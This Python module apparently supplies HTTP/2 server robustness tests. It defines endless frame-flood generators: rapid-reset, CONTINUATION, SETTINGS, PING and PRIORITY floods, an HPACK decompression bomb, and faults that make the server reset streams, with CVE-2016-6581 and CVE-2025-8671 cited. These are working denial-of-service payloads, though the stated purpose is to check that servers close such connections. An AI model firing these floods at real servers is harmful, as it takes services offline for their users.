"""What an HTTP/2 client can do to a server that it does not mean well (RFC 9113 section 10.5): bytes without end.

Each flood is an endless sequence of pieces; a server is to end its connection before the sender ends it.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

from raw_http2 import (
    ACK,
    MOST,
    PADDED,
    Fields,
    Kind,
    continuation,
    data,
    fields,
    frame,
    headers,
    literal,
    ping,
    priority,
    request,
    rst,
    settings,
    string,
    window,
)

AT_ONCE = 200
"""Frames in a piece."""

HELD, TAKES = "/sse", "/events"
POST = request("POST", TAKES)


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def on_each_stream(*made: Callable[[int], bytes]) -> Iterator[bytes]:
    """The same on one stream after another."""
    for stream in streams():
        yield b"".join(make(stream) for make in made)


def again(piece: bytes, begun: bytes = b"") -> Iterator[bytes]:
    """The same on and on, after what begins it."""
    yield begun
    yield from itertools.repeat(piece * AT_ONCE)


def reset_at_once(block: Fields) -> Iterator[bytes]:
    return on_each_stream(lambda n: headers(n, block), rst)


def made_to_reset(fault: Callable[[int], bytes], block: Fields = POST, *, end: bool = False) -> Iterator[bytes]:
    """Streams with a fault each, which the server must reset (CVE-2025-8671)."""
    return on_each_stream(lambda n: headers(n, block, end=end), fault)


def bomb() -> Iterator[bytes]:
    """A field of 4 000 bytes kept in the table, and told to be there 4 000 times over (CVE-2016-6581)."""
    yield headers(1, fields(*request()) + literal("x", "y" * 3900, kept=True))
    for stream in itertools.count(3, 2):
        yield headers(stream, fields(*request()) + b"\xbe" * 4000)


def many_fields() -> Iterator[bytes]:
    """Blocks of empty fields, each of which is 32 bytes and more where it is kept (RFC 7541 section 4.1)."""
    for stream in streams():
        yield headers(stream, fields(*request()) + (b"\x00" + string("x") + string("")) * 3500)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "requests reset at once": lambda: reset_at_once(request()),
    "held requests reset at once": lambda: reset_at_once(request(path=HELD)),
    "bodies reset at once": lambda: on_each_stream(lambda n: headers(n, POST, end=False), rst),
    "requests that are no WebSocket": lambda: on_each_stream(
        lambda n: headers(n, ((":method", "CONNECT"), (":protocol", "x"), *request(path="/")[1:]), end=False)
    ),
    "windows of streams above their most": lambda: made_to_reset(lambda n: window(n, MOST)),
    "windows of streams grown by 0": lambda: made_to_reset(lambda n: window(n, 0)),
    "bodies longer than they say": lambda: made_to_reset(
        lambda n: data(n, b"123", end=True), (*POST, ("content-length", "1"))
    ),
    "DATA after the end": lambda: made_to_reset(lambda n: data(n, b"1"), request(path=HELD), end=True),
    "PRIORITY of four bytes": lambda: made_to_reset(lambda n: frame(Kind.PRIORITY, 0, n, bytes(4))),
    "CONTINUATION": lambda: again(continuation(1, b"\x00\x01x\x00"), headers(1, b"", flags=0)),
    "CONTINUATION of nothing": lambda: again(continuation(1), headers(1, b"", flags=0)),
    "CONTINUATION at its largest": lambda: again(
        continuation(1, literal("x", "y" * 16000)), headers(1, fields(*request()), flags=0)
    ),
    "SETTINGS": lambda: again(settings()),
    "SETTINGS at its largest": lambda: again(settings(*[(0x9999, 1)] * 2730)),
    "SETTINGS that move every window": lambda: again(
        settings((4, 0)) + settings((4, 60_000)), b"".join(headers(n, request(path=HELD)) for n in range(1, 200, 2))
    ),
    "SETTINGS acknowledged": lambda: again(frame(Kind.SETTINGS, ACK)),
    "PING": lambda: again(ping()),
    "PING acknowledged": lambda: again(ping(flags=ACK)),
    "PRIORITY": lambda: again(priority(1, 3)),
    "PRIORITY of one stream after another": lambda: on_each_stream(*[lambda n: priority(n, n + 2)] * AT_ONCE),
    "a type that nobody knows": lambda: again(frame(0x99)),
    "a type that nobody knows, at its largest": lambda: again(frame(0x99, payload=bytes(16384))),
    "DATA of nothing": lambda: again(data(1), headers(1, POST, end=False)),
    "DATA of padding": lambda: again(frame(0, PADDED, 1, b"\xff" + bytes(255)), headers(1, POST, end=False)),
    "DATA on a stream that is gone": lambda: again(data(1, b"x"), headers(1, POST, end=False) + rst(1)),
    "HEADERS on a stream that is gone": lambda: again(headers(1), headers(1, POST, end=False) + rst(1)),
    "RST_STREAM on a stream that is gone": lambda: again(rst(1), headers(1, POST, end=False)),
    "WINDOW_UPDATE": lambda: again(window(0, 1)),
    "WINDOW_UPDATE of a stream": lambda: again(window(1, 1), headers(1, request(path=HELD))),
    "WINDOW_UPDATE of a stream that is gone": lambda: again(window(1, 1), headers(1, POST, end=False) + rst(1)),
    "a field block that unpacks to megabytes": bomb,
    "field blocks of many fields": many_fields,
}
